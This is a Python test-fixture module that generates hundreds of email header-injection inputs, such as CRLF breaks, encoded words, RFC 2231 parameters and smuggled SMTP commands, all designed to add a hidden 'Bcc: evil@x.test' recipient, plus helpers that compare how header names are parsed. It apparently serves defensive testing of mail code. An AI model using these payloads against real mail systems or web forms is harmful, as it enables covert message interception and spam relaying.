"""Texts that would become a header, a recipient or a body where mail is written carelessly."""

import itertools
from collections.abc import Iterator
from email import message_from_bytes
from email.policy import compat32

EVIL = "Bcc: evil@x.test"


def payloads() -> Iterator[str]:
    breaks = [
        "\r\n",
        "\n",
        "\r",
        "\n\r",
        "\r\n ",
        "\r\n\t",
        "\r\n\r\n",
        "\n\n",
        "\x00\r\n",
        "\r\x00\n",
    ]
    breaks += [
        "\x00",
        "\x0b",
        "\x0c",
        "\x1c",
        "\x1d",
        "\x1e",
        "\x85",
        "\u2028",
        "\u2029",
        "\ud80d\n",
    ]
    breaks += ["\u560d\u560a", "\u010a", "\u202a\r\n", "\\r\\n", "%0d%0a", "&#13;&#10;"]
    yield from (f"Dinner{b}{EVIL}" for b in breaks)
    q = ["=0d=0a", "=0D=0A", "=0a", "=0d", "=0d=0a=0d=0a", "=00=0d=0a"]
    for charset, kind in itertools.product(["utf-8", "us-ascii", "iso-8859-1*en"], "qQ"):
        yield from (f"=?{charset}?{kind}?a{b}Bcc=3a_evil=40x.test?=" for b in q)
    for kind in "bB":
        yield f"=?utf-8?{kind}?YQ0KQmNjOiBldmlsQHgudGVzdA==?="
        yield f"=?utf-8?{kind}?YQpCY2M6IGV2aWxAeC50ZXN0?="
        yield f"=?utf-7?{kind}?K0FBMEFDZy1CY2M6IGV2aWxAeC50ZXN0?="
    yield "=?utf-8?q?a?= =?utf-8?q?=0d=0aBcc=3a_evil=40x.test?="
    yield "=\u202a?utf-8?q?a=0d=0aBcc=3a_evil=40x.test?="
    yield '"=?utf-8?q?a=0d=0aBcc=3a_evil=40x.test?="'
    yield "(=?utf-8?q?a=0d=0aBcc=3a_evil=40x.test?=)"
    yield f"{'x' * 70} =?utf-8?q?a=0d=0aBcc=3a_evil=40x.test?="
    yield f"x; filename*=utf-8''a%0d%0a{EVIL}"
    yield f"x; filename*0*=utf-8''a%0d%0a; filename*1={EVIL}"
    yield 'a" <evil@x.test>, "'
    yield 'a\\" <evil@x.test>, "'
    yield "a\\"
    yield "evil@x.test"
    yield "<evil@x.test>"
    yield "evil@x.test, zoe"
    yield f"group: evil@x.test;{'x' * 90}"
    yield f"evil@x.test ({'comment ' * 12})"
    yield f"({'a' * 2000}\n{EVIL})"
    yield f"{'(' * 500}{EVIL}"
    yield "boss@x.test " + "word, " * 40
    yield "é" * 60 + f"\r\n{EVIL}"
    yield f"{'x' * 77}\r\n{EVIL}"
    yield f"--=_a_\r\n\r\n{EVIL}"
    yield f"\r\n.\r\nMAIL FROM:<evil@x.test>\r\nRCPT TO:<evil@x.test>\r\nDATA\r\n{EVIL}"
    yield '"a\r\nRCPT TO:<evil@x.test>\r\n"@c.test'
    yield "evil@x.test>\r\nRCPT TO:<zoe@example.org"
    yield "https://x.test/>\r\nBcc: evil@x.test"
    yield "https://x.test/>, <mailto:evil@x.test"
    yield "<1@example.org>\r\n\tBcc: evil@x.test"
    yield from _more()


def _more() -> Iterator[str]:
    """Further charsets of encoded words, parameters of RFC 2231, comments, and SMTP's own words."""
    for charset, kind in itertools.product(
        ["UTF-8", "iso-8859-1", "utf-16", "utf-7", "cp1252", "iso-2022-jp", "unknown-8bit"], "qQ"
    ):
        for line_end in ("=0d=0a", "=0A", "=0D=0A=20", "=E2=80=A8"):
            yield f"=?{charset}?{kind}?Dinner{line_end}Bcc:_evil=40x.test?="
    for around in ("(%s)", '"%s"', "<%s>", "a %s b", "%s%s", "[%s]", "\\%s", "%s;", "%s,"):
        word = "=?utf-8?b?DQpCY2M6IGV2aWxAeC50ZXN0?="
        yield around.replace("%s", word)
        yield around.replace("%s", word.lower())
    for name in ("filename", "name", "charset", "boundary", "method"):
        yield f'x"; {name}="a\r\n{EVIL}'
        yield f"x; {name}*=utf-8''%0D%0A{EVIL.replace(' ', '%20')}"
        yield f"x; {name}*1*=%0D%0A; {name}*0=a"
    yield from _lines_and_commands()


def _lines_and_commands() -> Iterator[str]:
    for header in ("To", "Cc", "From", "Sender", "Reply-To", "Content-Type", "List-Unsubscribe"):
        yield f"Dinner\r\n{header}: evil@x.test"
        yield f"Dinner\r{header}: evil@x.test"
    for command in ("RCPT TO:<evil@x.test>", "DATA", "RSET", "QUIT", "MAIL FROM:<evil@x.test>"):
        yield f"zoe@example.org\r\n{command}"
        yield f'"\r\n{command}\r\n"@example.org'
        yield f"zoe@example.org> {command} <"
    for size in (75, 76, 77, 78, 79, 120, 997, 998, 999, 5000):
        yield f"{'x' * size}\n{EVIL}"
        yield f"{'é' * size}: {EVIL}"
    for sign in ("\u2028", "\u2029", "\x85", "\x1c", "\u000b", "\ufeff", "\u200b", "\u061c"):
        yield f"{sign}{EVIL}"
        yield f"=?utf-8?q?{sign}=0aBcc:_evil=40x.test?="
    yield f"{'(' * 2000}{')' * 2000}\r\n{EVIL}"
    yield f"{'a@x.test, ' * 500}evil@x.test"
    yield "undisclosed-recipients:;"
    yield "{recipient_name.__class__}\r\n" + EVIL


PAYLOADS = list(dict.fromkeys(payloads()))


def names_by_hand(data: bytes) -> list[str]:
    """Header names of the top block, read without any parser of the standard library."""
    head = data.partition(b"\r\n\r\n")[0].decode("latin-1").splitlines()
    return [line.partition(":")[0] for line in head if not line.startswith((" ", "\t"))]


def names_by_parser(data: bytes) -> list[list[str]]:
    return [part.keys() for part in message_from_bytes(data, policy=compat32).walk()]
